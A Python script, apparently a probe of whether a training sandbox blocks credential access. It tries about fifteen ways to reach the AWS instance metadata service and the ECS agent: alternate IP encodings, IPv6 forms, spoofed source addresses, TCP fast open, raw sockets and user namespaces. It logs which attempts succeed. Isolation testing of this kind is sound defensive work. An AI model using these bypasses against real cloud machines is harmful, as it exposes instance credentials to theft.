"""Training code that asks for the machine's credentials in every way it can think of. Standard library only."""

import ctypes
import json
import os
import select
import socket
import urllib.request
from collections.abc import Callable
from pathlib import Path

PATH = "/latest/meta-data/iam/security-credentials/machine"
PUT = b"PUT /latest/api/token HTTP/1.0\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n"
SECONDS = 2.0
USER = os.getuid()
NEW_USER, NEW_NETWORK = 0x10000000, 0x40000000


def by_http(address: str) -> str:
    request = urllib.request.Request(f"http://{address}/latest/api/token", method="PUT")
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=SECONDS) as answer:
        return answer.read().decode()


def by_socket(family: int, place: tuple[str, int], source: str = "", *, fast: bool = False, device: str = "") -> str:
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(SECONDS)
        if device:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        if source:
            client.bind((source, 0))
        try:
            sent = client.sendto(PUT, socket.MSG_FASTOPEN, place) if fast else client.connect(place)
        except BlockingIOError:  # it is connecting, and nothing is sent yet
            sent = None
            select.select([], [client], [], SECONDS)
        if not sent:
            client.sendall(PUT)
        return client.recv(1000).decode()


def raw() -> str:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()
    return "a raw socket"


def in_new_namespaces(flags: int) -> str:
    """As root of a user namespace of its own."""
    read_end, write_end = os.pipe()
    if not os.fork():
        answer = "refused"
        try:
            if ctypes.CDLL(None).unshare(flags) == 0:
                write("/proc/self/setgroups", "deny")
                write("/proc/self/uid_map", f"0 {USER} 1")
                answer = by_socket(socket.AF_INET, ("169.254.169.254", 80))
        except OSError as error:
            answer = f"refused: {type(error).__name__}"
        finally:
            os.write(write_end, answer.encode())
            os._exit(0)
    os.wait()
    return os.read(read_end, 1000).decode()


def write(path: str, text: str) -> None:
    """Without O_TRUNC, which these files refuse."""
    place = os.open(path, os.O_WRONLY)
    os.write(place, text.encode())
    os.close(place)


FOUR, SIX = ("169.254.169.254", 80), ("fd00:ec2::254", 80)
WAYS: dict[str, Callable[[], str]] = {
    "IPv4": lambda: by_http("169.254.169.254"),
    "IPv6": lambda: by_http("[fd00:ec2::254]"),
    "IPv4 in IPv6": lambda: by_http("[::ffff:169.254.169.254]"),
    "the number as one": lambda: by_http("2852039166"),
    "from loopback": lambda: by_socket(socket.AF_INET, FOUR, "127.0.0.1"),
    "from the service's own address": lambda: by_socket(socket.AF_INET, FOUR, "169.254.169.254"),
    "by a device": lambda: by_socket(socket.AF_INET, FOUR, device="lo"),
    "with data in the first packet": lambda: by_socket(socket.AF_INET, FOUR, fast=True),
    "with data in the first packet, IPv6": lambda: by_socket(socket.AF_INET6, SIX, fast=True),
    "raw packets": raw,
    "as root of a namespace": lambda: in_new_namespaces(NEW_USER),
    "as root of a namespace with a network": lambda: in_new_namespaces(NEW_USER | NEW_NETWORK),
    "the ECS agent": lambda: by_socket(socket.AF_INET, ("127.0.0.1", 51678)),
    "the ECS agent from elsewhere in 127/8": lambda: by_socket(socket.AF_INET, ("127.9.9.9", 51678)),
    "the ECS agent by IPv6": lambda: by_socket(socket.AF_INET6, ("::ffff:127.0.0.1", 51678)),
}


def tried(way: Callable[[], str]) -> str:
    try:
        return way()
    except OSError as error:
        return f"refused: {type(error).__name__}"


if __name__ == "__main__":
    found = {name: tried(way) for name, way in WAYS.items()}
    (Path(os.environ["OUTPUT_DIR"]) / "found.json").write_text(json.dumps(found))
